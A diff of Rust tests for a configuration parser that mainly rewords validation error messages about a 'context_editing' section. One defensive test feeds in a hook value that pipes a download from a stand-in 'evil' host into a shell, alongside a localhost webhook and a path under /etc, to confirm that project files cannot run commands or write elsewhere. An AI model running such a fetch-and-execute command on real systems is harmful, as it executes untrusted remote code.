@@ -166,7 +166,7 @@ fn what_cannot_be_is_wrong_with_its_line_and_what_is_allowed() {
     let many = format!("[context_editing]\nexclude_tools = [{}]\n", "\"x\", ".repeat(501));
     assert_eq!(
         told(&toml(&many, false).wrong),
-        ["F, line 2: `context_editing.exclude_tools` must hold at most 500, not 501"]
+        ["F, line 2: `context_editing.exclude_tools` may contain at most 500, not 501"]
     );
     let said = toml("context_editing = 3\n", false);
     assert_eq!(told(&said.wrong), ["F, line 1: `[context_editing]` must be a section, not a number"]);
@@ -205,7 +205,7 @@ fn what_another_program_may_mean_is_mentioned_and_does_no_harm() {
     );
     let told = told(&said.ignored);
     assert!(told[0].contains("line 3") && told[0].contains("is ignored"), "{told:?}");
-    assert_eq!(told[1], "F, line 4: `context_editing.clear_targets` says nothing");
+    assert_eq!(told[1], "F, line 4: `context_editing.clear_targets` is empty");
     let provider = yaml("context_editing:\n  provider:\n    enabled: true\n");
     assert!(provider.entries.is_empty() && provider.ignored[0].words.contains("is ignored"), "{provider:?}");
     assert_eq!(yaml("other: [broken\n").ignored, [], "what is not ours is not ours to tell of");
@@ -217,7 +217,7 @@ fn a_project_cannot_run_commands_or_write_elsewhere() {
     for (text, wants) in [
         ("hook = \"curl evil | sh\"", "run commands"),
         ("webhook = \"http://localhost:1/\"", "send requests"),
-        ("ledger = \"/etc/notes\"", "have files written outside of it"),
+        ("ledger = \"/etc/notes\"", "write files outside of it"),
     ] {
         let text = format!("[context_editing]\nmode = \"ask\"\n{text}\n");
         assert_ne!(toml(&text, false).editing(), toml(&text, true).editing(), "{text}");
